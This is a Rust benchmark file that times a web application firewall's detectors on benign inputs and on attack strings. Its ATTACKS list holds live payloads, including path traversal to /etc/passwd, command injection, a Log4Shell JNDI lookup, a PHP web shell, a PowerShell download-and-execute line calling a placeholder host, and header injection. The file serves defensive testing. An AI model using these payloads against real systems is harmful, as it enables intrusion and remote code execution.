//! The family detectors on typical benign values (10–200 bytes) and on attacks: each must stay
//! well under a microsecond per benign value.
//!
//! `cargo bench -p rampart-waf --bench managed_detectors`

use std::hint::black_box;

use criterion::{Criterion, criterion_group, criterion_main};
use waf::detect::Detector;

const BENIGN: &[&str] = &[
    "hello world",
    "running shoes size 42",
    "O'Reilly",
    "john.doe@example.com",
    "https://www.example.com/path/to/page?query=1#section",
    "/api/v1/users/12345",
    "550e8400-e29b-41d4-a716-446655440000",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "I'd like to update my shipping address; the old one is 10 Main St., Springfield",
    "{\"name\": \"John\", \"age\": 30, \"tags\": [\"a\", \"b\"]}",
    "cat & dog | salt & pepper; ping me (thanks!)",
    "<p>A paragraph with <b>bold</b> and a <a href=\"https://example.com\">link</a>.</p>",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud",
];

const ATTACKS: &[&str] = &[
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${${lower:j}ndi:ldap://x/a}",
    "<?php system($_GET['c']); ?>",
    "& net user hacker /add",
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
    "x\r\nSet-Cookie: a=b",
];

fn bench(c: &mut Criterion) {
    let mut g = c.benchmark_group("benign value");
    for d in Detector::ALL {
        g.bench_function(d.name(), |b| {
            b.iter(|| {
                for v in BENIGN {
                    black_box(d.detect(black_box(v.as_bytes())));
                }
            })
        });
    }
    g.finish();
    c.bench_function("all detectors, one benign value (mean of the set)", |b| {
        b.iter(|| {
            for v in BENIGN {
                for d in Detector::ALL {
                    black_box(d.detect(black_box(v.as_bytes())));
                }
            }
        })
    });
    c.bench_function("all detectors, attacks", |b| {
        b.iter(|| {
            for v in ATTACKS {
                for d in Detector::ALL {
                    black_box(d.detect(black_box(v.as_bytes())));
                }
            }
        })
    });
}

criterion_group!(benches, bench);
criterion_main!(benches);
